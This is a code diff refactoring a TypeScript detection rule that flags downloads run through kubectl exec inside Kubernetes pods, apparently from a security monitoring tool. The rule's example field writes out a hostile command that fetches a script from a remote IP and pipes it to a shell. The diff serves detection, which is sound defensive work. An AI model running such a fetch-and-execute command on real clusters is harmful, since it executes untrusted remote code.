@@ -1,7 +1,7 @@
 import { quote } from '../../text.ts';
 import { callRule } from '../call-rule.ts';
 import { downloadIn } from '../download.ts';
-import { EXECS, execOf, seenInCommand } from '../exec.ts';
+import { EXECS, seenInCommand } from '../exec.ts';
 
 /** Lower for a download that is only shown, which a person reads: attackers keep or run what they fetch. */
 const SHOWN = { severity: 'medium', confidence: 0.4 } as const;
@@ -22,12 +22,12 @@ export const execDownload = callRule({
   falsePositives: ['Debugging tools fetched by an operator', 'Tests of egress from a cluster'],
   calls: EXECS,
   example: "kubectl exec -n shop cart-7d9f -- sh -c 'curl -s http://203.0.113.9/x.sh | sh'",
-  match: (signal) => {
-    const line = execOf(signal)?.line;
-    const download = line === undefined ? undefined : downloadIn(line);
-    if (download === undefined) return undefined;
-    const { host, kept } = download;
-    const does = kept ? 'fetches something to keep or run' : 'fetches and prints something';
-    return seenInCommand(signal, () => `${does} from ${quote(host, 253)}`, kept ? {} : SHOWN);
-  },
+  match: (signal) =>
+    seenInCommand(signal, (line) => {
+      const download = downloadIn(line);
+      if (download === undefined) return undefined;
+      const { host, kept } = download;
+      const does = kept ? 'fetches something to keep or run' : 'fetches and prints something';
+      return { what: `${does} from ${quote(host, 253)}`, ...(kept ? {} : SHOWN) };
+    }),
 });
